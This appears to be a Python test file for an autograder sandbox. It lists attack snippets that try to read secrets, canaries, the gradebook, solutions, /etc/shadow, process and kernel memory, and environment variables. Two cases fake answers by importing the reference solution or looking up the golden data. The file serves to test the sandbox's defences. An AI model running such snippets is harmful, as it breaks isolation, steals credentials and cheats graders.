"""Read the answers: files, memory, frames, history, environment, earlier submissions, golden data as a table."""

from __future__ import annotations

from .attack import COURSE, OUTSIDE, REPOSITORY, attack

THREAT = "read the answers"
TELL = """
def tell(*paths):
    for path in paths:
        try:
            with open(path, 'rb') as file: text = file.read(100_000)
            if text: print('GOT', path, text)
        except (OSError, ValueError): pass
"""


def reading(name: str, code: str, **fields: object) -> None:
    attack(THREAT, name, before=TELL + code, **fields)


reading(
    "files of the course",
    f"tell('{COURSE}/secret', '{COURSE}/canary', '{COURSE}/gradebook.db', '{REPOSITORY}/solutions/softmax.py',"
    f" '{COURSE}/submitted/noor/01_softmax/01_softmax.ipynb', '{REPOSITORY}/autograder/checks/softmax.py', '{OUTSIDE}')",
    core=True,
)
reading(
    "a walk through everything",
    "import os\nfor folder, _, files in os.walk('/', onerror=lambda e: None):\n"
    "    if folder.startswith(('/usr', '/proc')) or 'site-packages' in folder: continue\n"
    "    for name in files:\n        if 'canary' in name or name.endswith(('.db', 'secret', '.ipynb')):\n"
    "            tell(folder + '/' + name)",
)
reading(
    "through links",
    f"import os\nos.symlink('{COURSE}/canary', 'link')\ntell('link', '/proc/self/cwd/link',"
    f" '/proc/1/root{COURSE}/canary', '/proc/self/root{COURSE}/canary', '/lab/../{COURSE}/canary', '/.old{COURSE}/canary')",
)
reading(
    "other processes",
    "import os, glob\nfor pid in ['1', str(os.getppid()), *map(str, range(2, 400))]:\n"
    "    tell(*(f'/proc/{pid}/{name}' for name in ('environ', 'maps', 'fd/0', 'root/etc/shadow')))\n"
    "    try: os.open(f'/proc/{pid}/mem', os.O_RDWR) if pid == '1' else None\n    except OSError: pass",
    core=True,
)
reading(
    "memory of the supervisor",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nbuffer = ctypes.create_string_buffer(100)\n"
    "print(libc.ptrace(16, 1, 0, 0), libc.ptrace(16904, 1, 0, 0))\n"
    "pair = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 100)\nremote = (ctypes.c_void_p * 2)(0x400000, 100)\n"
    "print(libc.process_vm_readv(1, pair, 1, remote, 1, 0))",
)
reading(
    "frames and objects of the worker",
    "import gc, sys\nframe, seen = sys._getframe(), []\nwhile frame:\n    seen.append(str(frame.f_globals.keys()) + "
    "str(frame.f_locals)[:2000])\n    frame = frame.f_back\n"
    "names = {type(o).__module__ for o in gc.get_objects()} | set(sys.modules)\n"
    "print(seen, [n for n in names if str(n).startswith(('autograder', 'solutions'))])",
)
reading(
    "history and inputs",
    "print(In, Out, get_ipython().history_manager.input_hist_raw, dir())",
)
reading(
    "memory of its own process",
    "import re\nfor line in open('/proc/self/maps'):\n    start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "    if ' r' not in line or '[v' in line or end - start > 5e7: continue\n"
    "    try:\n        with open('/proc/self/mem', 'rb', 0) as file:\n            file.seek(start)\n"
    "            for word in re.findall(b'canary-[0-9a-f]{6}-of', file.read(end - start)): print('FOUND', word[::-1])\n"
    "    except (OSError, ValueError, OverflowError): pass",
)
reading("environment", "import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ').read())\ntell('/proc/1/environ')")
reading(
    "the topic's own solution",
    "for name in ('solutions.softmax', 'solutions.softmax_derivations', 'autograder.checks.softmax', 'nbgrader.api'):\n"
    "    try:\n        module = __import__(name, fromlist=['x'])\n        softmax_ = module.softmax\n        print('GOT', name)\n"
    "    except (ImportError, AttributeError): pass",
    answers={
        "softmax": "try:\n    from solutions.softmax import softmax\nexcept ImportError:\n"
        "    def softmax(x): return x * 0.5"
    },
    core=True,
)
reading(
    "golden data as a table",
    "",
    answers={
        "softmax": "import courseware.golden as golden, glob\nTABLE = {}\n"
        "for path in glob.glob(golden.__file__.replace('golden.py', 'golden/softmax.npz')):\n"
        "    with np.load(path, allow_pickle=False) as data:\n        TABLE.update({k: data[k] for k in data.files})\n"
        "def softmax(x):\n    same = [v for v in TABLE.values() if np.shape(v) == np.shape(x)]\n"
        "    return same[-1] if same else x"
    },
)
reading(
    "compiled remains",
    "import glob\nprint(glob.glob('/**/__pycache__/*softmax*', recursive=True)[:50])\n"
    f"tell(*glob.glob('{REPOSITORY}/**/__pycache__/softmax*.pyc', recursive=True))",
)
reading(
    "open files handed down",
    "import os\nfor n in range(256):\n    try:\n        print(n, os.readlink(f'/proc/self/fd/{n}'))\n"
    "        os.lseek(n, 0, 0); print(os.read(n, 1000) if n != 100 else b'')\n    except OSError: pass",
)
reading(
    "keys and messages of the kernel",
    "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.syscall(250, 0, -3, 0, 0, 0), libc.syscall(250, 0, -5, 0, 0, 0))\n"
    "tell('/proc/keys', '/proc/kmsg', '/dev/kmsg', '/proc/kcore', '/dev/mem', '/dev/vda', '/dev/sda')",
)
